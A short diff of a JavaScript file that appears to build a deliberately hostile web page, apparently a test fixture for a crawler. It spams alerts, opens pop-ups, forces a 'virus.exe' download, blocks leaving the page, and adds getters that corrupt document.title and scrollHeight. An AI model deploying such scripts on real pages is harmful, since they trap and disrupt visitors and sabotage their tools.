@@ -189,6 +189,8 @@ quietly(() => {{
 }});
 quietly(() => navigator.serviceWorker.register("/worker.js").catch(() => 0));
 quietly(() => setInterval(() => alert("Вы выиграли!"), 50));
+quietly(() => Object.defineProperty(document, "title", {{get: () => ({{slice: () => ({{not: "text"}})}})}}));
+quietly(() => Object.defineProperty(document.documentElement, "scrollHeight", {{get: () => Infinity}}));
 quietly(() => open("/d/obyavlenie/two-faced-IDr9sfK.html"));
 quietly(() => {{ const a = document.createElement("a"); a.href = "/file"; a.download = "virus.exe"; a.click(); }});
 addEventListener("beforeunload", event => {{ event.preventDefault(); event.returnValue = "x"; }});
